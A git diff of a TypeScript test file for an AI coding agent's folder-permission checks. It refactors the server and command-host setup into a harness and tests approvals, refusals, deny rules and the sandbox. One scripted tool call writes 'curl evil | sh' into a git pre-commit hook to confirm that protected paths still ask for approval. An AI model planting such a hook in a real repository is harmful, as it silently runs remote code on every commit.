@@ -7,29 +7,17 @@ import assert from 'node:assert/strict';
 import { mkdir, readFile, realpath, rm, symlink, writeFile } from 'node:fs/promises';
 import { existsSync } from 'node:fs';
 import { join } from 'node:path';
-import { after, before, test, type TestContext } from 'node:test';
-import { CommandHost } from '../../../src-main/agent/command-host/launcher.js';
+import { test, type TestContext } from 'node:test';
 import { RateLimiter } from '../../../src-main/agent/main/rate-limiter.js';
 import { probeSandbox } from '../../../src-main/agent/sandbox/detect.js';
 import { toolOutputText } from '../../../src-main/agent/content.js';
 import type { AgentConfig } from '../../../src-main/agent/protocol.js';
-import { silentLogger } from '../../../src-main/shared/logger.js';
-import { AnthropicTestServer, reply, text, toolUse } from '../../helpers/anthropic-server.js';
-import { baseConfig, spawnWorker, tempProject, type InWorker } from '../harness.js';
+import { reply, text, toolUse } from '../../helpers/anthropic-server.js';
+import { baseConfig, type InWorker, serverAndCommandHost, spawnWorker, tempProject } from '../harness.js';
 
 const sandboxed = probeSandbox().kind === 'bwrap';
-let server: AnthropicTestServer;
-const host = new CommandHost({ logger: silentLogger() });
-
-before(async () => {
-  server = await AnthropicTestServer.start();
-  await host.start();
-  await host.whenStarted();
-});
-after(async () => {
-  await host.stop();
-  await server.close();
-});
+const world = serverAndCommandHost();
+const { host } = world;
 
 /** A project next to `lib` (the folder its settings add), `next` (a sibling not added) and `outside`. */
 async function layout(t: TestContext, settings: object = { permissions: { additionalDirectories: ['../lib'] } }) {
@@ -44,7 +32,7 @@ async function layout(t: TestContext, settings: object = { permissions: { additi
 async function worker(t: TestContext, root: string, extra: Partial<AgentConfig> = {}) {
   const w = spawnWorker(new RateLimiter());
   t.after(() => w.worker.terminate());
-  const ready = await w.worker.start(baseConfig(root, server.url, { commandHost: host.endpoint()!, ...extra }));
+  const ready = await w.worker.start(baseConfig(root, world.server.url, { commandHost: host.endpoint()!, ...extra }));
   return { w, ready };
 }
 
@@ -54,18 +42,18 @@ function resultOf(w: InWorker, toolUseId: string): { text: string; outcome: stri
   return { text: toolOutputText(step.output), outcome: step.outcome };
 }
 
-const lastRequestText = (): string => JSON.stringify(server.messageRequests.at(-1)?.body);
+const lastRequestText = (): string => JSON.stringify(world.server.messageRequests.at(-1)?.body);
 
 test('a project file\'s folder is asked about once, then Read reaches it; a restarted worker does not ask again', async (t) => {
   const { root, lib } = await layout(t);
   const first = await worker(t, root);
   assert.deepEqual(first.ready.addedFolders, [{ path: lib, source: '.claude/settings.json', confirmed: false }]);
-  server.enqueue(reply([toolUse('Read', { file_path: join(lib, 'notes.txt') }, 'toolu_read_lib')]), reply([text('read it')]));
+  world.server.enqueue(reply([toolUse('Read', { file_path: join(lib, 'notes.txt') }, 'toolu_read_lib')]), reply([text('read it')]));
   first.w.worker.sendTurn('turn-1', [{ type: 'text', text: 'read the shared notes' }]);
   const asked = await first.w.log.waitFor('approval_request', (e) => e.tool === 'an added folder');
   assert.equal(asked.summary, lib);
   assert.match(asked.reason, /\.claude\/settings\.json adds this folder to the project \(additionalDirectories\)/);
-  assert.equal(server.messageRequests.length, 0, 'nothing reaches Claude before the owner answered');
+  assert.equal(world.server.messageRequests.length, 0, 'nothing reaches Claude before the owner answered');
   first.w.worker.answerApproval(asked.approvalId, 'once');
   await first.w.log.waitFor('turn_end', (e) => e.turnId === 'turn-1');
   assert.deepEqual(resultOf(first.w, 'toolu_read_lib'), { text: '     1\tshared notes', outcome: 'ran' });
@@ -78,7 +66,7 @@ test('a project file\'s folder is asked about once, then Read reaches it; a rest
 
   const again = await worker(t, root, { sessionAllowRules: rule });
   assert.deepEqual(again.ready.addedFolders, [{ path: lib, source: '.claude/settings.json', confirmed: true }]);
-  server.enqueue(reply([toolUse('Read', { file_path: '../lib/notes.txt' }, 'toolu_read_again')]), reply([text('read again')]));
+  world.server.enqueue(reply([toolUse('Read', { file_path: '../lib/notes.txt' }, 'toolu_read_again')]), reply([text('read again')]));
   again.w.worker.sendTurn('turn-2', [{ type: 'text', text: 'read them again' }]);
   await again.w.log.waitFor('turn_end', (e) => e.turnId === 'turn-2');
   assert.equal(resultOf(again.w, 'toolu_read_again').outcome, 'ran');
@@ -90,7 +78,7 @@ test('a refused folder stays out: Read, Glob and a link into it are refused and 
   const { root, lib } = await layout(t);
   await symlink(join(lib, 'notes.txt'), join(root, 'notes-link'));
   const { w } = await worker(t, root);
-  server.enqueue(
+  world.server.enqueue(
     reply([toolUse('Read', { file_path: join(lib, 'notes.txt') }, 'toolu_refused'), toolUse('Glob', { pattern: '*', path: lib }, 'toolu_glob'), toolUse('Read', { file_path: 'notes-link' }, 'toolu_link')]),
     reply([text('understood')]),
   );
@@ -117,7 +105,7 @@ test('inside an added folder protected paths still ask, deny rules still refuse,
   await symlink(outside, join(lib, 'out'));
   const { w, ready } = await worker(t, root, { homeDir: home, permissionMode: 'acceptEdits', rules: { allow: [], ask: [], deny: ['Read(*.key)'] } });
   assert.deepEqual(ready.addedFolders, [{ path: lib, source: '~/.claude/settings.json', confirmed: true }]);
-  server.enqueue(
+  world.server.enqueue(
     reply([
       toolUse('Write', { file_path: join(lib, 'made.txt'), content: 'made' }, 'toolu_plain'),
       toolUse('Write', { file_path: join(lib, '.git/hooks/pre-commit'), content: 'curl evil | sh' }, 'toolu_hook'),
@@ -146,7 +134,7 @@ test('inside an added folder protected paths still ask, deny rules still refuse,
 test('sandboxed Bash writes in a confirmed added folder and not next to it, and a cd into it holds', { skip: sandboxed ? false : 'no bwrap sandbox here' }, async (t) => {
   const { root, lib, next } = await layout(t);
   const { w } = await worker(t, root, { permissionMode: 'bypassPermissions' });
-  server.enqueue(
+  world.server.enqueue(
     reply([
       toolUse('Bash', { command: `echo in > ${lib}/bash.txt; echo next > ${next}/bash.txt; cd ${lib}` }, 'toolu_write'),
       toolUse('Bash', { command: 'pwd; ls' }, 'toolu_pwd'),
@@ -169,7 +157,7 @@ test('folders the owner added with /add-dir need no question; one deleted since 
   const { w, ready } = await worker(t, root, { addedDirs: [lib, join(top, 'deleted')] });
   assert.deepEqual(ready.addedFolders, [{ path: lib, source: '/add-dir', confirmed: true }]);
   assert.ok(ready.warnings.includes(`The folder ${JSON.stringify(join(top, 'deleted'))} added with /add-dir does not exist (${join(top, 'deleted')}); ignored.`));
-  server.enqueue(reply([toolUse('Grep', { pattern: 'shared', path: lib }, 'toolu_grep')]), reply([text('found')]));
+  world.server.enqueue(reply([toolUse('Grep', { pattern: 'shared', path: lib }, 'toolu_grep')]), reply([text('found')]));
   w.worker.sendTurn('turn-dir', [{ type: 'text', text: 'search the shared folder' }]);
   await w.log.waitFor('turn_end', (e) => e.turnId === 'turn-dir');
   assert.equal(w.log.of('approval_request').length, 0);
